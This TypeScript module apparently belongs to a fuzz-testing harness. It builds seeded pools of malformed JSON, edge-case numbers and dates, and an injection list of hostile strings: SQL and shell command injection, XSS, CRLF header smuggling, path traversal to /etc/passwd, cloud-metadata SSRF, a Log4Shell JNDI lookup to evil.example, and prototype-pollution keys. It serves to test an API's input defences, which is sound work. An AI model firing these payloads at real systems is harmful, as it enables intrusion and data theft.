// Hostile values, and the ways to break one thing of a valid request.
import fc from 'fast-check';
import { anyText, anyValue } from '../harness/arbitraries.ts';
import type { Chance } from '../simulations/chance.ts';

/** Written into JSON verbatim: no JavaScript value has this form. */
export const RAW_LITERALS = [
  'NaN',
  '-Infinity',
  '1e999',
  '-1e999',
  '-0',
  '1E400',
  '9223372036854775808',
  '-9223372036854775809',
  '18446744073709551616',
  '0.1e-400',
  '01',
  '+1',
  '.5',
  '0x10',
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"\\u0000"',
  '"\\x41"',
  "'single'",
  'undefined',
  'True',
  '[1,]',
  '{"a":1,}',
  '{"a":1,"a":2}',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
  '"\u2028"',
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`,
];

const INJECTIONS = [
  "' or '1'='1",
  "1'; select pg_sleep(20); --",
  "1' and (select count(*) from users, users u2, users u3) > 0 --",
  '1 union select password_hash from users',
  '"; drop table jobs; --',
  '$$; select 1; $$',
  "\\'; copy (select 1) to program 'id'; --",
  '%27%20or%201=1',
  '%',
  '_%_%_%',
  '(((((',
  "& | ! <-> :* '",
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  '; id; `id` $(id) | id && id',
  '\r\nSet-Cookie: live_oak_session=planted\r\nX-Planted: yes',
  '%0d%0aX-Planted:%20yes',
  '\n\n.\r\nQUIT\r\n',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd%00.png',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:5432/',
  '//evil.example/x',
  'https://evil.example/?',
  '*)(uid=*))(|(uid=*',
  '/~0~1/-',
  '${jndi:ldap://evil.example/a}',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '(a+)+$',
  'a'.repeat(50) + '!',
];

const NUMBERS = [
  0,
  -1,
  1,
  0.5,
  99.999,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  2 ** 63,
  -(2 ** 63),
  1e21,
  1e308,
  -1e308,
  5e-324,
  1_000_000.01,
  '1e3',
  '0x1F',
  ' 7 ',
  '７',
  '١٢٣',
  '1,000,000.001',
  '$-5',
  '1_000',
];

const DATES = [
  '0000-00-00',
  '0001-01-01',
  '1969-12-31T23:59:59Z',
  '2026-02-29',
  '2028-02-29',
  '2026-03-08 02:30',
  '2026-11-01 01:30',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  '2026-11-21T24:00:00Z',
  '2026-11-21T23:59:60Z',
  '2026-11-21T10:00:00+99:99',
  '20261121',
  '2026-W47-6',
  'infinity',
  'now',
  'epoch',
  'BC 2026-01-01',
];

const OBJECTS: readonly unknown[] = [
  { $gt: '' },
  { $ne: null },
  { toString: 'x' },
  { toJSON: 1 },
  { length: 1e9 },
  { catch: 'x' },
  { hasOwnProperty: 1 },
  [['a']],
  [null],
  ['x', 'y'],
  [[], {}],
  Array.from({ length: 2000 }, (_, n) => n),
];

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'id',
  'userId',
  'userType',
  'isAdmin',
  'role',
  'status',
  'approvalStatus',
  'verificationStatus',
  'subscriptionStatus',
  'paidThrough',
  'rating',
  'isTest',
  'amountCents',
  'clientId',
  'providerId',
  '$where',
  'a.b',
  'a[b]',
  '',
];

export interface Pool {
  /** Any value that JSON can carry. */
  values: readonly unknown[];
  texts: readonly string[];
  keys: readonly string[];
}

/** The same seed gives the same pool. */
export function poolOf(seed: number): Pool {
  const samples = fc.sample(anyText, { seed, numRuns: 400 });
  const texts = [...INJECTIONS, ...DATES, ...NUMBERS.map(String), ...samples, ...INJECTIONS];
  const values = fc.sample(anyValue, { seed, numRuns: 400 });
  return {
    texts,
    keys: KEYS,
    values: [...texts, ...NUMBERS, ...NUMBERS, ...OBJECTS, ...OBJECTS, ...values, null, true, false, '', [], {}],
  };
}

type Fields = Record<string, unknown>;

/** A copy with one own property set, including `__proto__`. */
export function withField(fields: Fields, name: string, value: unknown): Fields {
  const copy = { ...fields };
  Object.defineProperty(copy, name, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

export const isFields = (value: unknown): value is Fields =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** A text as long as its field's limit, one shorter and one longer: {limit - 1, limit, limit + 1}. */
export const atLimit = (limit: number, chance: Chance) =>
  chance.pick(['x', 'é', '🌳', ' ']).repeat(Math.max(1, Math.min(limit, 120_000) + chance.between(-1, 1)));

/** Replaces a random part of a JSON value by another value. */
export function spoilDeep(value: unknown, put: unknown, chance: Chance): unknown {
  if (Array.isArray(value) && value.length > 0 && chance.is(0.8)) {
    const at = chance.between(0, value.length - 1);
    return value.map((one: unknown, n) => (n === at ? spoilDeep(one, put, chance) : one));
  }
  if (isFields(value) && Object.keys(value).length > 0 && chance.is(0.8)) {
    const name = chance.pick(Object.keys(value));
    return withField(value, name, spoilDeep(value[name], put, chance));
  }
  return put;
}
